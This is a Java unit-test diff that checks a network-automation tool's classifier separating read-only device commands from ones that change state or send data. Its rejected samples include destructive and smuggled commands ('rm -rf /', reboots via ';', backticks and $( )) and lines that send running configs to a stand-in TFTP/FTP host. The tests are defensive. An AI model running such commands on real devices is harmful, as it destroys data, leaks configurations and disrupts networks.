@@ -157,4 +157,70 @@ class PlatformFilesTest {
     assertThat(platform.mode(platform.defaultMode())).isPresent();
     assertThat(platform.failureIndicators()).isNotEmpty();
   }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "cisco_ios|show ip interface brief | include up|reachable",
+        "cisco_ios|sh ver",
+        "cisco_ios|ping 192.0.2.1",
+        "cisco_ios|verify /md5 flash:image.bin",
+        "arista_eos|show interfaces status | include connected",
+        "arista_eos|show version | json",
+        "juniper_junos|show configuration | display set | match \"a|b\" | count",
+        "juniper_junos|show route | resolve",
+        "frr|show ip bgp summary json",
+        "linux|cat /etc/network/interfaces",
+        "linux|ip -br addr",
+        "linux|ip -4 -o route show default",
+        "linux|ip link show dev eth0",
+        "linux|hostname -f",
+        "linux|ping -c 1 192.0.2.1",
+      })
+  void knowsWhatOnlyReads(String sample) {
+    assertThat(onlyReads(sample)).isTrue();
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "cisco_ios|clear ip bgp *",
+        "cisco_ios|delete flash:config.text",
+        "cisco_ios|show running-config | redirect tftp://192.0.2.66/x",
+        "cisco_ios|show running-config | red tftp://192.0.2.66/x",
+        "cisco_ios|show clock | include x | append flash:x",
+        "cisco_ios|more system:running-config | tee ftp://192.0.2.66/x",
+        "cisco_ios|showing",
+        "arista_eos|show running-config > flash:x",
+        "arista_eos|show version | sh -c reboot",
+        "arista_eos|show running-config | include x | tee flash:x",
+        "arista_eos|bash rm -rf /",
+        "juniper_junos|show configuration | save ftp://192.0.2.66/x",
+        "juniper_junos|show version | request message all message hello",
+        "juniper_junos|request system reboot",
+        "frr|clear bgp *",
+        "linux|cat /etc/hosts; reboot",
+        "linux|cat /etc/hosts > /etc/network/interfaces",
+        "linux|ls `reboot`",
+        "linux|ls $(reboot)",
+        "linux|df & reboot",
+        "linux|ip link set eth0 down",
+        "linux|ip -batch /tmp/x addr",
+        "linux|hostname other",
+        "linux|rm -rf /",
+      })
+  void doesNotTakeForReadingWhatWritesOrSends(String sample) {
+    assertThat(onlyReads(sample)).isFalse();
+  }
+
+  @Test
+  void aDefinitionThatDoesNotSayWhatReadsAllowsNothing() {
+    assertThat(PlatformLoader.load("small", "small.yaml", SMALLEST).onlyReads("show version"))
+        .isFalse();
+  }
+
+  private static boolean onlyReads(String sample) {
+    String[] parts = sample.split("\\|", 2);
+    return PlatformCatalog.builtIn().get(parts[0]).onlyReads(parts[1]);
+  }
 }
